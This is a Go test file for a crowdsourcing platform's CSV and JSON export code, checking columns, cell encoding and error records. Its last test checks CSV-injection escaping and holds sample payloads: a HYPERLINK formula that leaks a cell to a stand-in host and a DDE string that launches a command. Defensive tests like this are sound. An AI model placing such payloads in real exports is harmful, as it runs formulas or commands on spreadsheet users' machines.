package export

import (
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	crowdgatev1 "github.com/crowdgate/crowdgate/gen/crowdgate/v1"
)

func parseCSV(t *testing.T, b []byte) []string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil || len(recs) != 1 {
		t.Fatalf("%q: %v, %d records", b, err, len(recs))
	}
	return recs[0]
}

func TestCSVColumnsAndCells(t *testing.T) {
	row := &crowdgatev1.ExportSubmissionsResponse{Cursor: "c1", Submission: &crowdgatev1.Submission{
		SubmissionId: "sub_1", Reward: "1234.5600", Quality: "0.10", CustomLog: `{"a":"b, \"c\""}`,
		CloseSession: proto.Bool(false), GoldenTasksCount: proto.Int32(0),
		State:      crowdgatev1.SubmissionState_SUBMISSION_STATE_DEAD,
		Flags:      &crowdgatev1.TolokaFlags{FilterMatch: true},
		CreateTime: timestamppb.New(time.Date(2026, 1, 2, 3, 4, 5, 600, time.UTC)),
	}}
	cols := Columns(row)
	if cols[0] != "cursor" || cols[1] != "submission_id" {
		t.Fatalf("columns start %v", cols[:2])
	}
	rec := parseCSV(t, must(CSVRow(row)))
	if len(rec) != len(cols) {
		t.Fatalf("%d cells, %d columns", len(rec), len(cols))
	}
	cell := func(name string) string { return rec[slices.Index(cols, name)] }
	for name, want := range map[string]string{
		"cursor": "c1", "reward": "1234.5600", "quality": "0.10", "custom_log": `{"a":"b, \"c\""}`,
		"close_session": "false", "skipped": "", "golden_tasks_count": "0", "real_tasks_count": "",
		"state": "SUBMISSION_STATE_DEAD", "flags.filter_match": "true", "flags.restriction_match": "false",
		"last_error.code": "", "create_time": "2026-01-02T03:04:05.0000006Z", "deliver_time": "",
	} {
		if got := cell(name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if h := parseCSV(t, CSVHeader(row)); !slices.Equal(h, cols) {
		t.Errorf("header %v, columns %v", h, cols)
	}
}

func TestCSVRepeatedFieldsAreJSON(t *testing.T) {
	row := &crowdgatev1.ExportTolokersResponse{Cursor: "c", Toloker: &crowdgatev1.Toloker{
		UserId: "u1", PoolIds: []string{"p1", "p,2"}, RewardDelivered: "0.00000001",
		Sessions:     &crowdgatev1.TolokerSessions{Started: 3, Live: 1},
		Restrictions: []*crowdgatev1.TolokerRestriction{{BanId: "ban_1", PoolId: "p1"}},
	}}
	cols := Columns(row)
	rec := parseCSV(t, must(CSVRow(row)))
	cell := func(name string) string { return rec[slices.Index(cols, name)] }
	if got := cell("pool_ids"); got != `["p1","p,2"]` {
		t.Errorf("pool_ids %q", got)
	}
	if got := cell("project_ids"); got != `[]` {
		t.Errorf("project_ids %q", got)
	}
	var bans []map[string]any
	if err := json.Unmarshal([]byte(cell("restrictions")), &bans); err != nil || bans[0]["ban_id"] != "ban_1" {
		t.Errorf("restrictions %q: %v", cell("restrictions"), err)
	}
	if cell("sessions.started") != "3" || cell("reward_delivered") != "0.00000001" {
		t.Errorf("sessions.started %q reward_delivered %q", cell("sessions.started"), cell("reward_delivered"))
	}
}

func TestJSONLineIsOneLineWithProtoNames(t *testing.T) {
	b, err := JSONLine(&crowdgatev1.ExportSessionsResponse{Cursor: "c", Session: &crowdgatev1.Session{SessionId: "ses_1", RewardTotal: "10.50"}})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), "\n") || !strings.Contains(string(b), `"reward_total":"10.50"`) || !strings.Contains(string(b), `"cursor":"c"`) {
		t.Errorf("%s", b)
	}
}

func TestCSVErrorIsNotARow(t *testing.T) {
	if rec := parseCSV(t, CSVError("UNAVAILABLE", "the datastore, \"retry\"")); !slices.Equal(rec, []string{"#error", "UNAVAILABLE", `the datastore, "retry"`}) {
		t.Errorf("%q", rec)
	}
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return b
}

// A partner opens the CSV export in a spreadsheet. A text cell the platform
// or a Toloker controls (custom_log, user_id, last_error.message) that
// starts with = + - @, a tab or a carriage return would run as a formula
// (=HYPERLINK(...) exfiltrates the row, DDE worse): it is written with a
// leading single quote (OWASP's CSV-injection advice). Amounts, counts,
// times and the cursor (which a client passes back unchanged) are written
// as they are.
func TestACSVCellThatStartsAFormulaIsQuoted(t *testing.T) {
	row := &crowdgatev1.ExportSubmissionsResponse{Cursor: "-c1", Submission: &crowdgatev1.Submission{
		SubmissionId: "sub_1", UserId: "@SUM(1+1)", RetryId: "-2+3", Reward: "1.00", Quality: "0.5",
		CustomLog: `=HYPERLINK("https://evil.example/?d="&A2,"click")`, AssignmentId: "\tx",
		LastError:        &crowdgatev1.TolokaError{Message: "+cmd|' /C calc'!A0", RequestId: "\r=1", PayloadJson: `{"a":"=1"}`},
		GoldenTasksCount: proto.Int32(3),
		CreateTime:       timestamppb.New(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)),
	}}
	cols := Columns(row)
	rec := parseCSV(t, must(CSVRow(row)))
	cell := func(name string) string { return rec[slices.Index(cols, name)] }
	for name, want := range map[string]string{
		"user_id":                 "'@SUM(1+1)",
		"retry_id":                "'-2+3",
		"custom_log":              `'=HYPERLINK("https://evil.example/?d="&A2,"click")`,
		"assignment_id":           "'\tx",
		"last_error.message":      "'+cmd|' /C calc'!A0",
		"last_error.request_id":   "'\r=1",
		"last_error.payload_json": `{"a":"=1"}`,
		"cursor":                  "-c1",
		"submission_id":           "sub_1",
		"reward":                  "1.00",
		"quality":                 "0.5",
		"golden_tasks_count":      "3",
		"create_time":             "2026-01-02T03:04:05Z",
	} {
		if got := cell(name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if got := parseCSV(t, CSVError("UNAVAILABLE", "=1+1")); got[2] != "'=1+1" {
		t.Errorf("error record %q: its message starts a formula", got)
	}
}
